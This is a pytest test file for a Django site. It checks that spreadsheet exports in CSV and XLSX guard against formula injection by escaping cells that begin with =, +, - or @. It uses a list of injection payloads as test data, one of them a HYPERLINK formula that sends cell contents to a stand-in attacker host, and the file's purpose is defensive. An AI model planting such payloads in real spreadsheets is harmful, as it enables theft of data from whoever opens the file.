"""Every file a spreadsheet may open is guarded against formulas: a metric label, a state
name and a figure's note that start like a formula come out behind an apostrophe, as
text, through the admin's exports (figures, metrics, states; CSV and XLSX), the public
downloads of /data/ and ``manage.py export_figures``. JSON is not a spreadsheet."""

import csv
import io
import json
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse
from import_export import resources
from openpyxl import load_workbook

from ncmec_site.spreadsheets import GuardedExport, guard_formula, runs_as_formula, unguard
from programs.demo import demo_data_load
from programs.models import Figure
from states.models import State
from tests.conftest import make_figure, make_metric, make_program, once_per_module

# Each start a spreadsheet runs: the issue's own label, the four signs, and the same
# behind spaces, a line feed, a tab or a carriage return.
DANGEROUS = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "  =1+1",
    "\n=1",
    "\t@SUM(A1)",
    "\r=1",
    " \n -2+3",
)
# A state each start renames (states are the migration's; the test renames them).
STATE_CODES = ("WY", "VT", "SD", "ND", "NH", "ME", "DE", "RI", "AK")
CSV, XLSX = 0, 1  # the index of each format in the admin's format menus
PROGRAM = "guard-pilot"


@once_per_module
def site_with_formulas():
    """The demo, a published program whose metrics are labelled with each dangerous start
    and whose Minnesota figures have it as their note and source, and a state renamed
    with each. Built once for the module's tests."""
    demo_data_load(seed_only=True)
    program = make_program(name="Guard Pilot", slug=PROGRAM)
    for n, text in enumerate(DANGEROUS):
        metric = make_metric(program, key=f"{PROGRAM}-{n}", label=text)
        make_figure(metric, value=n + 1, note=text, source=text)
    for code, text in zip(STATE_CODES, DANGEROUS, strict=True):
        State.objects.filter(code=code).update(name=text)


def body(response):
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def csv_cells(data: bytes):
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def xlsx_cells(data: bytes):
    """Every cell of every sheet, as openpyxl reads it."""
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def assert_guarded_csv(data: bytes):
    cells = csv_cells(data)
    assert not [cell for cell in cells if runs_as_formula(cell)]
    for text in DANGEROUS:
        assert "'" + text in cells, f"{text!r} is not in the file behind an apostrophe"


def assert_guarded_xlsx(data: bytes):
    cells = xlsx_cells(data)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [text for text in texts if runs_as_formula(text)]
    for text in DANGEROUS:
        text = text.replace("\r", "\n")  # XML reads a carriage return as a line feed
        assert "'" + text in texts, f"{text!r} is not in the workbook behind an apostrophe"


def admin_export(client, model, resource, columns, file_format):
    data = {"format": str(file_format), "resource": "0"}
    data.update({f"{resource}_{name}": "on" for name in columns})
    response = client.post(reverse(f"admin:{model}_export"), data)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    return response.content


ADMIN_EXPORTS = {
    "figures": (
        "programs_figure",
        "figureresource",
        ("year", "state", "metric", "value", "qualifier", "source", "note"),
    ),
    "metrics": (
        "programs_metric",
        "metricresource",
        ("key", "program", "label", "scope", "unit", "parent", "definition", "sentence"),
    ),
    "states": ("states_state", "stateresource", ("name", "code", "fips_code", "slug", "kind")),
}


@pytest.mark.parametrize("name", ADMIN_EXPORTS)
def test_the_admin_csv_export_guards_every_formula_start(site_with_formulas, admin_client, name):
    assert_guarded_csv(admin_export(admin_client, *ADMIN_EXPORTS[name], CSV))


@pytest.mark.parametrize("name", ADMIN_EXPORTS)
def test_the_admin_workbook_export_holds_no_formula(site_with_formulas, admin_client, name):
    assert_guarded_xlsx(admin_export(admin_client, *ADMIN_EXPORTS[name], XLSX))


@pytest.mark.parametrize(
    "address",
    [f"/data/figures.csv?program={PROGRAM}", "/data/metrics.csv", "/data/states.csv"],
)
def test_the_public_csv_downloads_guard_every_formula_start(
    site_with_formulas, db, client, address
):
    response = client.get(address)

    assert response.status_code == 200
    assert_guarded_csv(body(response))


def test_the_public_workbook_holds_no_formula_and_its_values_stay_numbers(
    site_with_formulas, db, client
):
    response = client.get(f"/data/figures.xlsx?program={PROGRAM}")

    assert response.status_code == 200
    assert_guarded_xlsx(body(response))
    sheet = load_workbook(io.BytesIO(body(response)))["Figures"]
    header = [cell.value for cell in sheet[1]]
    values = [row[header.index("value")] for row in sheet.iter_rows(min_row=2)]
    assert {cell.data_type for cell in values} == {"n"}


def test_the_public_json_download_is_not_a_spreadsheet_and_keeps_the_text(
    site_with_formulas, db, client
):
    response = client.get(f"/data/figures.json?program={PROGRAM}")

    notes = {figure["note"] for figure in json.loads(body(response))["figures"]}
    assert notes == set(DANGEROUS)


def test_the_export_command_guards_every_formula_start_in_csv(site_with_formulas, db, capsys):
    call_command("export_figures", "--program", PROGRAM)

    assert_guarded_csv(capsys.readouterr().out.encode())


def test_the_export_command_writes_a_workbook_without_formulas(site_with_formulas, db, tmp_path):
    path = tmp_path / "figures.xlsx"

    call_command("export_figures", "--program", PROGRAM, "--format", "xlsx", "-o", str(path))

    assert_guarded_xlsx(path.read_bytes())


# The guard itself


@pytest.mark.parametrize("text", [*DANGEROUS, "'=A1", "''", "'plain"])
def test_the_import_takes_off_exactly_the_guard_an_export_puts_on(text):
    assert unguard(guard_formula(text)) == text


@pytest.mark.parametrize("text", ["Minnesota", "8,611", "more than", "2023", "", "a = b"])
def test_text_that_cannot_run_is_written_as_it_is(text):
    assert guard_formula(text) == text


def test_a_negative_number_stays_a_number_and_negative_text_is_guarded():
    class Years(GuardedExport, resources.ModelResource):
        class Meta:
            model = Figure
            fields = ("year", "value", "note")

    figure = Figure(year=-5, value=Decimal("-5"), note="-5")

    assert Years().export_resource(figure) == ["-5", "-5", "'-5"]
    assert Years().export_resource(figure, force_native_type=True) == [-5, Decimal("-5"), "'-5"]
    assert guard_formula(-5) == -5
